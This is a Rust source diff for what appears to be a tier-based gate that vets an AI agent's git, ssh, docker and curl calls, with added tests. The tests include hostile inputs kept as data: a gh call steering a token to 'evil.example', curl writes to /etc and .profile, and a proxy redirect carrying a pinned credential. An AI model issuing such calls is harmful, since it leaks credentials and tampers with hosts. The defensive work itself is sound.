@@ -50,6 +50,9 @@ pub struct Request {
     pub dry_run_pinned: bool,
     /// `env:` in `tiershim.yaml`.
     pub pinned: BTreeMap<String, String>,
+    /// The tool's credential the operator pinned (in `env:` or the secrets file), if any: then
+    /// the call may only connect where the pins say ([`Claim::Destination`]).
+    pub pinned_credential: Option<String>,
     /// The caller's values of the policy's `must_match` variables that are set.
     pub caller_env: BTreeMap<String, String>,
     /// The paths this install's real gh is known by (as configured, and canonical).
@@ -65,10 +68,16 @@ pub struct Request {
     pub policies: BTreeMap<Tool, Policy>,
     /// Set while judging one part of an ssh remote command: the host it runs on.
     pub remote_host: Option<String>,
+    /// `remote:` in `tiershim.yaml`: per ssh host (lower case), its workspaces, vouched-for
+    /// compose projects and restartable units.
+    pub remote: BTreeMap<String, crate::install::RemoteHost>,
     /// The working directory and where the call's local files really are (`files::gather`).
     pub local: crate::files::LocalFacts,
     /// Where the call may write: the install's workspaces and its own files (`files::Fence`).
     pub fence: crate::files::Fence,
+    /// Configuration the real tool would read from a place the agent can write, each with the
+    /// key that runs a program or redirects the call (`tool_config::agent_written`).
+    pub agent_config: Vec<String>,
     /// `cooldown_state:` in `tiershim.yaml`: restart and redeploy budgets are enforced.
     pub cooldown: bool,
     /// What I/O found out for this call (skills, changed files), when the decision asked.
@@ -89,6 +98,39 @@ pub struct Facts {
     /// The cooldown budgets and counts, read under the state file's lock; or why the state
     /// file cannot be used (the call is then refused).
     pub cooldown: Option<Result<cooldown::Facts, String>>,
+    /// What was read over ssh about the remote host of an ssh call (`crate::remote_facts`), or
+    /// why it could not be read.
+    pub remote: Option<Result<RemoteFacts, String>>,
+    /// Per action index with a probe: the marks the real git's answer adds, or why it could not
+    /// answer (the call is then refused).
+    pub marks: BTreeMap<usize, Result<BTreeSet<String>, String>>,
+    /// The configuration the real tool will read that runs a program or redirects a write and
+    /// comes from a file the agent could have written; or why it could not be read.
+    pub config: Option<Result<Vec<ConfigHit>, String>>,
+}
+
+/// What the gate read on the remote host of an ssh call, with a fixed read-only command over the
+/// same connection (`crate::remote_facts`).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct RemoteFacts {
+    /// Per (part, action) of a remote `compose up`: what its files come to, or why they could
+    /// not be read or understood.
+    pub compose: BTreeMap<(usize, usize), Result<crate::compose::Judged, String>>,
+    /// Per remote path a part writes (as located from the command): where it really leads.
+    pub paths: BTreeMap<String, Result<String, String>>,
+}
+
+/// One key of the configuration a real tool reads that runs a program or redirects a write,
+/// from a file the agent could have written.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct ConfigHit {
+    /// The file it comes from, as the tool names it.
+    pub file: String,
+    pub key: String,
+    /// What the key does (`runs a program`).
+    pub why: String,
+    /// Why the agent could have written the file.
+    pub writable: String,
 }
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -116,12 +158,24 @@ pub struct Needs {
     pub scope: Vec<(usize, ScopeKind)>,
     /// The call counts against a cooldown budget: the budgets and the state file.
     pub cooldown: bool,
+    /// A part of an ssh remote command needs what only the remote host can tell: the files of a
+    /// `compose up`, where a write really leads.
+    pub remote: bool,
+    /// Actions (by index) whose probe the real git must answer ([`crate::grammar::Probe`]).
+    pub probes: Vec<usize>,
+    /// The configuration the real tool will read, judged for keys the agent could have written.
+    pub config: bool,
 }
 
 impl Needs {
     pub fn is_empty(&self) -> bool {
-        self.skills.is_empty() && self.scope.is_empty() && !self.cooldown
+        self.skills.is_empty() && self.scope.is_empty() && !self.cooldown && !self.remote && self.probes.is_empty() && !self.config
     }
+}
+
+/// Whether the real tool reads configuration the gate judges before exec (git's).
+fn reads_config(tool: Tool) -> bool {
+    tool == Tool::Git
 }
 
 /// What the scope check of a decision looked at and found.
@@ -314,7 +368,23 @@ fn matches(rule: &Rule, verb: &str, action: &Action) -> bool {
 }
 
 fn from_rule(tool: Tool, rule: &Rule, action: &Action) -> Finding {
-    let what = rule.what.clone().unwrap_or_else(|| format!("{tool} {}", action.verb));
+    let mut what = rule.what.clone().unwrap_or_else(|| format!("{tool} {}", action.verb));
+    // A mark `<m>: <detail>` says what made the action `<m>` (the file and key a compose
+    // judgement found): a refusal by a rule on `<m>` names it.
+    let details: Vec<String> = rule
+        .when
+        .iter()
+        .flat_map(|m| {
+            let prefix = format!("{m}: ");
+            action
+                .marks
+                .iter()
+                .filter_map(move |x| x.strip_prefix(&prefix).map(|d| escape(d).into_owned()))
+        })
+        .collect();
+    if !details.is_empty() {
+        what = format!("{what} ({})", details.join("; "));
+    }
     let reason = rule_reason(rule.required, &rule.id, &what);
     Finding::new(
         rule.required,
@@ -442,8 +512,14 @@ fn classify(tool: Tool, policy: &Policy, action: &Action) -> Finding {
 /// The call's local files against the fence (`files::check`): every write needs tier 2, one
 /// outside the workspaces or of names the server chooses tier 3; hidden paths, git directories,
 /// the install's own files, and reads outside the working directory or of credentials, never.
+/// On a remote host only the files a call reads are judged here; where it writes is the remote
+/// side of the model's (`judge_part`, `remote_fence`).
 fn check_files(tool: Tool, policy: &Policy, inv: &Invocation, req: &Request, out: &mut Vec<Finding>) {
-    for j in crate::files::check(inv, &req.local, &req.fence) {
+    let remote = req.remote_host.is_some();
+    for j in crate::files::check(inv, &req.local, &req.fence)
+        .into_iter()
+        .filter(|j| !(remote && j.file.access.writes()))
+    {
         let path = escape(&redact(&j.file.path)).into_owned();
         let flag = escape(&j.file.flag).into_owned();
         let why = escape(&j.why).into_owned();
@@ -568,6 +644,35 @@ fn check_claims(tool: Tool, policy: &Policy, inv: &Invocation, req: &Request, ou
                     ));
                 }
             }
+            Claim::Destination { var, value, flag } => {
+                // On a remote host the operator's pins mean nothing; nothing pinned goes there.
+                if req.remote_host.is_some() {
+                    continue;
+                }
+                if let Some(cred) = &req.pinned_credential
+                    && req.pinned.get(*var) != Some(value)
+                {
+                    let pinned = match req.pinned.get(*var) {
+                        Some(p) => format!("the pinned {var}={}", escape(&redact(p))),
+                        None => format!("{var}, which this install does not pin"),
+                    };
+                    let value = escape(&redact(value)).into_owned();
+                    out.push(never(
+                        tool,
+                        policy,
+                        "credential-destination",
+                        format!("{tool} {} {value}", escape(flag)),
+                        format!(
+                            "{} {value}: the pinned {cred} is only ever sent to the pinned destination, and this is not {pinned}",
+                            escape(flag),
+                        ),
+                        &format!(
+                            "drop {}: the pinned credential goes to the pinned {var} only (or ask the operator to pin {var})",
+                            escape(flag)
+                        ),
+                    ));
+                }
+            }
             Claim::SshHost { host, via } => {
                 if let Some(list) = &req.hosts
                     && !list.iter().any(|h| h.eq_ignore_ascii_case(host))
@@ -615,6 +720,47 @@ fn check_claims(tool: Tool, policy: &Policy, inv: &Invocation, req: &Request, ou
     }
 }
 
+/// Configuration the real tool will read that the agent could have written and that runs a
+/// program or redirects a write: never (DESIGN §3.2, "configuration the agent can write is
+/// data").
+fn check_config(tool: Tool, policy: &Policy, req: &Request, out: &mut Vec<Finding>) {
+    match &req.facts.config {
+        Some(Ok(hits)) if !hits.is_empty() => {
+            // One finding names every key and file; the reasons say why each counts.
+            let named: Vec<String> = hits.iter().map(|h| format!("{} in {}", escape(&h.key), escape(&h.file))).collect();
+            let why: Vec<String> = hits
+                .iter()
+                .map(|h| {
+                    format!(
+                        "{} in {} {}, and {}",
+                        escape(&h.key),
+                        escape(&h.file),
+                        escape(&h.why),
+                        escape(&h.writable)
+                    )
+                })
+                .collect();
+            out.push(never(
+                tool,
+                policy,
+                "agent-config",
+                format!("{tool} with configuration the agent could have written ({})", named.join(", ")),
+                why.join("; "),
+                "an operator removes the key (or makes the file theirs); the agent's files configure nothing that runs",
+            ));
+        }
+        Some(Ok(_)) | None => {}
+        Some(Err(why)) => out.push(never(
+            tool,
+            policy,
+            "agent-config",
+            format!("{tool} whose configuration cannot be read ({})", escape(why)),
+            format!("the configuration {tool} would read cannot be judged: {}", escape(why)),
+            "fix what the message names and try again",
+        )),
+    }
+}
+
 /// The decision for one call. Pure.
 pub fn decide(inv: &Invocation, policy: &Policy, req: &Request) -> Decision {
     let tool = inv.tool;
@@ -629,13 +775,15 @@ pub fn decide(inv: &Invocation, policy: &Policy, req: &Request) -> Decision {
     let mut parts = Vec::new();
     let mut part_skills = BTreeSet::new();
     let mut charges = Vec::new();
+    let mut needs_remote = false;
     if let Some(remote) = inv.remote.as_deref() {
-        for part in &remote.parts {
-            let (f, p, skills, part_charges) = judge_part(tool, &remote.host, part, policy, req, effective);
-            findings.push(f);
-            parts.push(p);
-            part_skills.extend(skills);
-            charges.extend(part_charges);
+        for (i, part) in remote.parts.iter().enumerate() {
+            let j = judge_part(tool, remote, i, part, policy, req, effective, dry_run);
+            findings.push(j.finding);
+            parts.push(j.part);
+            part_skills.extend(j.skills);
+            charges.extend(j.charges);
+            needs_remote |= j.needs_remote;
         }
     }
     let n_parts = parts.len();
@@ -659,13 +807,48 @@ pub fn decide(inv: &Invocation, policy: &Policy, req: &Request) -> Decision {
         ));
     } else {
         findings.extend(inv.actions.iter().enumerate().map(|(i, a)| {
+            // What the real git answered about the action adds to its marks.
+            let marked;
+            let a = match req.facts.marks.get(&i) {
+                Some(Ok(m)) if !m.is_empty() => {
+                    let mut x = a.clone();
+                    x.marks.extend(m.iter().cloned());
+                    marked = x;
+                    &marked
+                }
+                _ => a,
+            };
             let mut f = classify(tool, policy, a);
             f.action = Some(i);
             f
         }));
+        for (i, r) in &req.facts.marks {
+            if let (Err(why), Some(a)) = (r, inv.actions.get(*i)) {
+                findings.push(never(
+                    tool,
+                    policy,
+                    "target",
+                    format!("{tool} {} whose target cannot be worked out ({})", escape(&a.verb), escape(why)),
+                    format!("{tool} {}: {}", escape(&a.verb), escape(why)),
+                    "fix what the message names and try again",
+                ));
+            }
+        }
     }
+    check_config(tool, policy, req, &mut findings);
     check_claims(tool, policy, inv, req, &mut findings);
     check_files(tool, policy, inv, req, &mut findings);
+    for c in &req.agent_config {
+        let c = escape(c).into_owned();
+        findings.push(never(
+            tool,
+            policy,
+            "agent-config",
+            format!("{tool} with configuration the agent can change ({c})"),
+            format!("{c}: {tool} would read this from a file the agent can write, and it runs a program or redirects the call"),
+            "ask the operator to make the tool home's files theirs (writable by their owner only; root's in a hardened install), or to remove the key",
+        ));
+    }
     if req.cooldown {
         check_targets(tool, inv, req, &mut findings, &mut charges);
     }
@@ -694,6 +877,7 @@ pub fn decide(inv: &Invocation, policy: &Policy, req: &Request) -> Decision {
 
     // The parts' own skills were raised inside their decisions; what they still lack is ours.
     needs.skills.extend(part_skills);
+    needs.remote = needs_remote;
 
     let mut reasons: Vec<String> = findings
         .iter()
@@ -838,8 +1022,17 @@ pub fn decide(inv: &Invocation, policy: &Policy, req: &Request) -> Decision {
             }
         }
     }
+    for (i, a) in inv.actions.iter().enumerate() {
+        if a.probe.is_some() && !req.facts.marks.contains_key(&i) {
+            needs.probes.push(i);
+        }
+    }
+    if reads_config(tool) && req.remote_host.is_none() && inv.problem.is_none() && req.facts.config.is_none() {
+        needs.config = true;
+    }
     if !needs.is_empty() {
-        reasons.push("the facts this decision needs (skills, changed files, cooldown counts) were not gathered".into());
+        reasons
+            .push("the facts this decision needs (skills, changed files, probes, configuration, cooldown counts) were not gathered".into());
         d.verdict = Verdict::Refuse;
         d.rule = format!("{tool}.facts");
         d.what = format!("{} without the facts its decision needs", d.what);
@@ -900,21 +1093,41 @@ fn verdict_for(required: Required, effective: u8, dry_run: bool) -> Verdict {
     }
 }
 
+/// How one part of an ssh remote command came out, for the ssh call's decision.
+struct PartJudgement {
+    /// The finding for the ssh call.
+    finding: Finding,
+    part: PartDecision,
+    /// Skills whose Tier Requirement the part still needs (on the first pass).
+    skills: BTreeSet<String>,
+    charges: Vec<Charge>,
+    /// The part needs facts only the remote host can give (`Needs::remote`).
+    needs_remote: bool,
+}
+
 /// One part of an ssh remote command, judged by `decide()` with the policy of the tool it runs
-/// (the ssh policy for remote programs and shell constructs) at the caller's effective tier.
-/// Returns the finding for the ssh call, the part's judgement, and the skills whose Tier
-/// Requirement the part still needs (on the first pass, before skills were consulted).
+/// (the ssh policy for remote programs and shell constructs) at the caller's effective tier, and
+/// then by the remote side of the local-write model (`crate::remote_fence`).
+///
+/// What the operator says about the host (`remote.<host>` in `tiershim.yaml`) and what was read
+/// on it over ssh change the part before it is judged: the list of restartable units
+/// (`systemd::apply_list`), and the compose files of a `compose up` (without them it is
+/// `compose-remote`; on the first pass below tier 3 they are asked for instead).
 ///
 /// A scope check of a part cannot be made: the files it changes are on the remote host. The part
 /// is given that as the fact, so a rule that asks for one refuses it as its tool's `scope` rule.
+#[allow(clippy::too_many_arguments)]
 fn judge_part(
     tool: Tool,
-    host: &str,
+    remote: &crate::grammar::remote::Remote,
+    index: usize,
     part: &Part,
     policy: &Policy,
     req: &Request,
     effective: u8,
-) -> (Finding, PartDecision, BTreeSet<String>, Vec<Charge>) {
+    dry_run: bool,
+) -> PartJudgement {
+    let host = remote.host.as_str();
     let shown = part.shown();
     let part_policy = if part.inv.tool == tool {
         Some(policy)
@@ -946,8 +1159,48 @@ fn judge_part(
             rule: f.rule.clone(),
             skill: f.skill.clone(),
         };
-        return (f, p, BTreeSet::new(), Vec::new());
+        return PartJudgement {
+            finding: f,
+            part: p,
+            skills: BTreeSet::new(),
+            charges: Vec::new(),
+            needs_remote: false,
+        };
     };
+    let host_cfg = req.remote.get(&host.to_ascii_lowercase());
+    let mut needs_remote = false;
+    let mut inv = part.inv.clone();
+    // The operator's restartable units for this host.
+    if let Some(units) = host_cfg.and_then(|h| h.units.as_ref()) {
+        for a in &mut inv.actions {
+            crate::grammar::systemd::apply_list(a, units);
+        }
+    }
+    // The files of a remote `compose up`, as read over ssh.
+    let mut compose_found: Vec<String> = Vec::new();
+    let mut compose_unread: Option<String> = None;
+    let mut compose_read = false;
+    for (j, a) in inv.actions.iter_mut().enumerate().filter(|(_, a)| a.has(crate::compose::REMOTE)) {
+        match &req.facts.remote {
+            Some(Ok(f)) => match f.compose.get(&(index, j)) {
+                Some(Ok(judged)) => {
+                    a.marks.remove(crate::compose::REMOTE);
+                    crate::compose::mark(a, &Ok(judged.clone()));
+                    compose_found.extend(judged.escalates.iter().chain(&judged.changeable).cloned());
+                    compose_read = true;
+                }
+                Some(Err(why)) => compose_unread = Some(why.clone()),
+                None => compose_unread = Some("they were not read".into()),
+            },
+            Some(Err(why)) => compose_unread = Some(why.clone()),
+            None if effective < 3 => {
+                // First pass: judge the rest as if the files were harmless, and ask for them.
+                a.marks.remove(crate::compose::REMOTE);
+                needs_remote = true;
+            }
+            None => {}
+        }
+    }
     let remote_changes = format!("the repository is on {}, where the gate cannot list what it changes", escape(host));
     let mut sub = Request {
         ceiling: effective,
@@ -960,23 +1213,37 @@ fn judge_part(
         facts: Facts {
             skill_tiers: Some(req.facts.skill_tiers.clone().unwrap_or_default()),
             scope_rules: None,
-            changes: (0..part.inv.actions.len()).map(|i| (i, Err(remote_changes.clone()))).collect(),
+            changes: (0..inv.actions.len()).map(|i| (i, Err(remote_changes.clone()))).collect(),
             cooldown: req.facts.cooldown.clone(),
+            remote: None,
+            // The remote repository cannot be asked: a checkout operand may be paths (the worse
+            // reading); a push is refused by its scope rule anyway.
+            marks: inv
+                .actions
+                .iter()
+                .enumerate()
+                .filter_map(|(i, a)| match &a.probe {
+                    Some(crate::grammar::Probe::CheckoutArg { .. }) => Some((i, Ok(BTreeSet::from(["discard".to_string()])))),
+                    Some(crate::grammar::Probe::PushTarget { .. }) => Some((i, Ok(BTreeSet::new()))),
+                    None => None,
+                })
+                .collect(),
+            config: None,
         },
         ..Request::default()
     };
-    let mut d = decide(&part.inv, part_policy, &sub);
+    let mut d = decide(&inv, part_policy, &sub);
     let charges = std::mem::take(&mut d.charges);
     let mut skills = BTreeSet::new();
     if req.facts.skill_tiers.is_none() && d.verdict != Verdict::Refuse {
         // Which skills could still raise this part: ask as the first pass of a local call would.
         sub.facts.skill_tiers = None;
-        skills = decide(&part.inv, part_policy, &sub).needs.skills;
+        skills = decide(&inv, part_policy, &sub).needs.skills;
     }
     let host_shown = escape(host);
     // An unclassified remote program reads better by its name (`rm`) than as `ssh run rm`, and
     // a construct by what it is and its text than by the list in its rule.
-    let what = match shown.strip_prefix("construct ") {
+    let mut what = match shown.strip_prefix("construct ") {
         Some(kind) if d.tool == tool => {
             let text = part.words.first().map(|w| redact(w).into_owned()).unwrap_or_default();
             let text: String = match text.char_indices().nth(60) {
@@ -988,25 +1255,127 @@ fn judge_part(
         _ if d.rule == format!("{}.unclassified", d.tool) && d.tool == tool => escape(&shown).into_owned(),
         _ => d.what.clone(),
     };
-    let f = Finding::new(
+    let mut reasons = d.reasons.clone();
+    // Name what the compose files come to, or why they are unknown.
+    if d.rule.starts_with("docker.compose.file-") {
+        if !compose_found.is_empty() {
+            what = format!("{what} ({})", escape(&compose_found.join("; ")));
+        } else if let Some(why) = &compose_unread {
+            what = format!("{what} ({})", escape(why));
+        }
+    }
+    if let Some(why) = &compose_unread {
+        reasons.push(format!("the compose files could not be read over ssh: {}", escape(why)));
+    } else if compose_read && compose_found.is_empty() {
+        reasons
+            .push("the compose files were read over ssh: the login user can change none of them, and they ask for nothing tier 3".into());
+    }
+    let mut f = Finding::new(
         d.required_tier,
         d.rule.clone(),
         d.skill.clone(),
         format!("{what} on {host_shown}"),
-        format!("on {host_shown}: {}", d.reasons.join("; ")),
+        format!("on {host_shown}: {}", reasons.join("; ")),
         d.instead.clone(),
     );
+    // Where the part writes on the remote host (the remote side of the local-write model).
+    let changes = matches!(d.required_tier, Required::Tier(n) if n >= 2);
+    let workspaces: &[String] = host_cfg.map_or(&[], |h| h.workspaces.as_slice());
+    for w in part.writes.iter().filter(|w| !w.repository || changes) {
+        let (required, why) = remote_write(w, remote.cd.as_deref(), workspaces, req, effective, &mut needs_remote);
+        if required > f.required {
+            let path = escape(&redact(&w.path)).into_owned();
+            let doing = if w.repository {
+                format!("{} changing {path}", escape(&shown))
+            } else {
+                format!("{} writing {path} ({})", escape(&shown), escape(&w.what))
+            };
+            f = Finding::new(
+                required,
+                "ssh.remote-write".into(),
+                d.skill.clone(),
+                format!("{doing} on {host_shown} ({})", escape(&why)),
+                rule_reason(required, "ssh.remote-write", &format!("{doing} on {host_shown}: {}", escape(&why))),
+                Some(if required == Required::Tier(2) {
+                    "tier 1 writes no file; read the output from standard output, or escalate to a tier 2 agent".to_string()
+                } else {
+                    format!(
+                        "write only inside {host_shown}'s workspaces (tiershim.yaml `remote.{host_shown}.workspaces`), below no hidden name, or escalate to tier 3"
+                    )
+                }),
+            );
+        }
+    }
     let p = PartDecision {
         host: host.to_string(),
         tool: d.tool,
         verb: d.verb,
         shown,
-        verdict: d.verdict,
-        required_tier: d.required_tier,
-        rule: d.rule,
+        verdict: verdict_for(f.required, effective, dry_run),
+        required_tier: f.required,
+        rule: f.rule.clone(),
         skill: d.skill,
     };
-    (f, p, skills, charges)
+    PartJudgement {
+        finding: f,
+        part: p,
+        skills,
+        charges,
+        needs_remote,
+    }
+}
+
+/// The tier a remote write needs, and why: 2 inside one of the host's workspaces (where the
+/// path was found to really lead, once it was read over ssh), 3 anywhere else or when the gate
+/// cannot tell. Below tier 3, a write inside a workspace asks for where it really leads.
+fn remote_write(
+    w: &crate::grammar::remote::Write,
+    cd: Option<&str>,
+    workspaces: &[String],
+    req: &Request,
+    effective: u8,
+    needs_remote: &mut bool,
+) -> (Required, String) {
+    use crate::remote_fence::{judge, locate};
+    let abs = match locate(&w.path, cd) {
+        Ok(a) => a,
+        Err(why) => return (Required::Tier(3), why),
+    };
+    if w.named {
+        return (
+            Required::Tier(3),
+            format!("{abs}: the server chooses the names of the files written there"),
+        );
+    }
+    if let Err(why) = judge(&abs, workspaces, w.repository) {
+        return (Required::Tier(3), format!("{abs}: {why}"));
+    }
+    let inside = (Required::Tier(2), format!("{abs} is inside a workspace, and tier 1 writes no file"));
+    if effective >= 3 {
+        // Tier 3 may write anywhere: where it leads changes nothing.
+        return inside;
+    }
+    match &req.facts.remote {
+        Some(Ok(f)) => match f.paths.get(&abs) {
+            Some(Ok(real)) => match judge(real, workspaces, w.repository) {
+                Ok(_) => inside,
+                Err(why) => (Required::Tier(3), format!("{abs} really is {real}: {why}")),
+            },
+            Some(Err(why)) => (
+                Required::Tier(3),
+                format!("where {abs} really leads could not be read over ssh: {why}"),
+            ),
+            None => (Required::Tier(3), format!("where {abs} really leads was not read")),
+        },
+        Some(Err(why)) => (
+            Required::Tier(3),
+            format!("where {abs} really leads could not be read over ssh: {why}"),
+        ),
+        None => {
+            *needs_remote = true;
+            inside
+        }
+    }
 }
 
 fn instead_text(f: &Finding) -> String {
@@ -1107,7 +1476,7 @@ mod tests {
         Request {
             ceiling: 3,
             env_tier: Some(tier.to_string()),
-            policies: policies(&[Tool::Docker, Tool::Git]),
+            policies: policies(&[Tool::Docker, Tool::Git, Tool::Curl]),
             ..Request::default()
         }
     }
@@ -1131,6 +1500,43 @@ mod tests {
         );
         assert_eq!(d.parts[1].host, "ie01");
         assert_eq!(d.what, "restarting, starting or stopping a container on ie01");
+    }
+
+    #[test]
+    fn with_a_credential_pinned_a_call_connects_only_where_the_pins_say() {
+        let judge = |tool: Tool, words: &[&str], cred: Option<&str>, pins: &[(&str, &str)]| {
+            let req = Request {
+                pinned_credential: cred.map(str::to_string),
+                pinned: pins.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
+                facts: Facts {
+                    skill_tiers: Some(BTreeMap::new()),
+                    ..Facts::default()
+                },
+                ..at(3)
+            };
+            let d = decide(&parse(tool, &argv(words)), &Policy::embedded(tool).unwrap(), &req);
+            (d.verdict, d.rule)
+        };
+        let refused = |t: Tool| (Verdict::Refuse, format!("{t}.credential-destination"));
+        let mysql = ["-h", "10.9.9.9", "-e", "select 1"];
+        assert_eq!(judge(Tool::Mysql, &mysql, None, &[]).0, Verdict::Allow);
+        assert_eq!(judge(Tool::Mysql, &mysql, Some("MYSQL_PWD"), &[]), refused(Tool::Mysql));
+        let pinned_host = [("MYSQL_HOST", "10.9.9.9")];
+        assert_eq!(judge(Tool::Mysql, &mysql, Some("MYSQL_PWD"), &pinned_host).0, Verdict::Allow);
+        let psql = ["-h", "db", "-p", "6432", "-c", "select 1"];
+        assert_eq!(
+            judge(Tool::Psql, &psql, Some("PGPASSWORD"), &[("PGHOST", "db"), ("PGPORT", "5432")]),
+            refused(Tool::Psql)
+        );
+        let curl = ["-x", "http://10.9.9.9:3128", "http://example.com/"];
+        assert_eq!(judge(Tool::Curl, &curl, None, &[]).0, Verdict::Allow);
+        assert_eq!(judge(Tool::Curl, &curl, Some("HTTPS_PROXY"), &[]), refused(Tool::Curl));
+        // gh sends its token only to github.com or the pinned host, whatever option names it.
+        let gh = ["attestation", "download", "a.tgz", "-R", "o/r", "--hostname", "evil.example"];
+        assert_eq!(
+            judge(Tool::Gh, &gh, None, &[("GH_HOST", "ghe.example")]),
+            (Verdict::Refuse, "gh.pinned".to_string())
+        );
     }
 
     #[test]
@@ -1170,6 +1576,134 @@ mod tests {
         let d = decide(&ssh(&["ie01", "cd /srv/app && git push origin feat"]), &p, &at(3));
         assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Refuse, "git.scope"));
         assert!(d.what.contains("the repository is on ie01"), "{}", d.what);
+    }
+
+    fn host(workspaces: &[&str], units: Option<&[&str]>) -> BTreeMap<String, crate::install::RemoteHost> {
+        BTreeMap::from([(
+            "ie01".to_string(),
+            crate::install::RemoteHost {
+                workspaces: workspaces.iter().map(|w| w.to_string()).collect(),
+                compose: Vec::new(),
+                units: units.map(|u| u.iter().map(|x| crate::grammar::systemd::listed_unit(x).unwrap()).collect()),
+            },
+        )])
+    }
+
+    #[test]
+    fn a_remote_write_needs_tier_2_inside_a_workspace_and_asks_where_it_really_leads() {
+        let p = Policy::embedded(Tool::Ssh).unwrap();
+        let mut req = Request {
+            remote: host(&["/srv/work"], None),
+            policies: policies(&[Tool::Curl]),
+            ..at(2)
+        };
+        let inside = ssh(&["ie01", "cd /srv/work && curl -s -o out.json http://127.0.0.1/x"]);
+        let first = decide(&inside, &p, &req);
+        assert_eq!((first.verdict, first.rule.as_str()), (Verdict::Refuse, "ssh.facts"));
+        assert!(first.needs.remote);
+        // Where it leads, as read over ssh: inside, allowed; through a symlink out, tier 3.
+        let facts = |real: &str| {
+            Some(Ok(RemoteFacts {
+                paths: BTreeMap::from([("/srv/work/out.json".to_string(), Ok(real.to_string()))]),
+                ..RemoteFacts::default()
+            }))
+        };
+        req.facts.skill_tiers = Some(BTreeMap::new());
+        req.facts.remote = facts("/srv/work/out.json");
+        assert_eq!(decide(&inside, &p, &req).verdict, Verdict::Allow);
+        req.facts.remote = facts("/home/ops/out.json");
+        let d = decide(&inside, &p, &req);
+        assert_eq!(
+            (d.verdict, d.rule.as_str(), d.required_tier),
+            (Verdict::Refuse, "ssh.remote-write", Required::Tier(3))
+        );
+        assert!(d.what.contains("really is /home/ops/out.json"), "{}", d.what);
+        // Outside, or from an unknown directory: tier 3 without asking.
+        for cmd in [
+            "curl -s -o /etc/x http://h/",
+            "curl -s -o out.json http://h/",
+            "cd /srv/work && curl -o .profile http://h/",
+        ] {
+            let d = decide(&ssh(&["ie01", cmd]), &p, &at(2));
+            assert_eq!((d.rule.as_str(), d.required_tier), ("ssh.remote-write", Required::Tier(3)), "{cmd}");
+            assert!(!d.needs.remote, "{cmd}");
+        }
+    }
+
+    #[test]
+    fn a_hosts_list_of_units_leaves_only_those_restartable_at_tier_2() {
+        let p = Policy::embedded(Tool::Ssh).unwrap();
+        let listed = Request {
+            remote: host(&[], Some(&["jellyfin", "tailscaled"])),
+            ..at(2)
+        };
+        let rule = |cmd: &str, req: &Request| {
+            let mut req = req.clone();
+            req.facts.skill_tiers = Some(BTreeMap::new());
+            let d = decide(&ssh(&["ie01", cmd]), &p, &req);
+            (d.verdict, d.rule)
+        };
+        assert_eq!(
+            rule("systemctl restart jellyfin", &listed),
+            (Verdict::Allow, "ssh.systemctl.lifecycle".into())
+        );
+        assert_eq!(
+            rule("systemctl restart tailscaled", &listed),
+            (Verdict::Allow, "ssh.systemctl.lifecycle".into())
+        );
+        assert_eq!(
+            rule("systemctl restart tailscaled", &at(2)),
+            (Verdict::Refuse, "ssh.systemctl.lifecycle.plumbing".into())
+        );
+        assert_eq!(
+            rule("systemctl restart nginx", &listed),
+            (Verdict::Refuse, "ssh.systemctl.lifecycle.unlisted".into())
+        );
+        assert_eq!(
+            rule("systemctl restart nginx", &at(2)),
+            (Verdict::Allow, "ssh.systemctl.lifecycle".into())
+        );
+        assert_eq!(
+            rule("systemctl restart sshd", &listed),
+            (Verdict::Refuse, "ssh.systemctl.lifecycle.plumbing".into())
+        );
+        // Reads are not restarts.
+        assert_eq!(
+            rule("systemctl status nginx", &listed),
+            (Verdict::Allow, "ssh.systemctl.read".into())
+        );
+    }
+
+    #[test]
+    fn a_remote_compose_up_asks_for_its_files_and_is_judged_by_what_they_come_to() {
+        let p = Policy::embedded(Tool::Ssh).unwrap();
+        let inv = ssh(&["ie01", "cd /srv/jellyfin && docker compose up -d jellyfin"]);
+        let mut req = at(2);
+        let first = decide(&inv, &p, &req);
+        assert!(first.needs.remote);
+        req.facts.skill_tiers = Some(BTreeMap::new());
+        let with = |judged: Result<crate::compose::Judged, String>| {
+            Some(Ok(RemoteFacts {
+                compose: BTreeMap::from([((0, 0), judged)]),
+                ..RemoteFacts::default()
+            }))
+        };
+        req.facts.remote = with(Ok(Default::default()));
+        let d = decide(&inv, &p, &req);
+        assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Allow, "docker.compose.up"));
+        req.facts.remote = with(Ok(crate::compose::Judged {
+            escalates: vec!["service jellyfin: privileged".into()],
+            changeable: Vec::new(),
+        }));
+        let d = decide(&inv, &p, &req);
+        assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Refuse, "docker.compose.file-escalates"));
+        assert!(d.what.contains("(service jellyfin: privileged)"), "{}", d.what);
+        req.facts.remote = with(Err("ssh failed".into()));
+        let d = decide(&inv, &p, &req);
+        assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Refuse, "docker.compose.file-remote"));
+        assert!(d.what.contains("ssh failed"), "{}", d.what);
+        // Tier 1 is refused by the rule itself: nothing to read.
+        assert!(!decide(&inv, &p, &at(1)).needs.remote);
     }
 
     #[test]
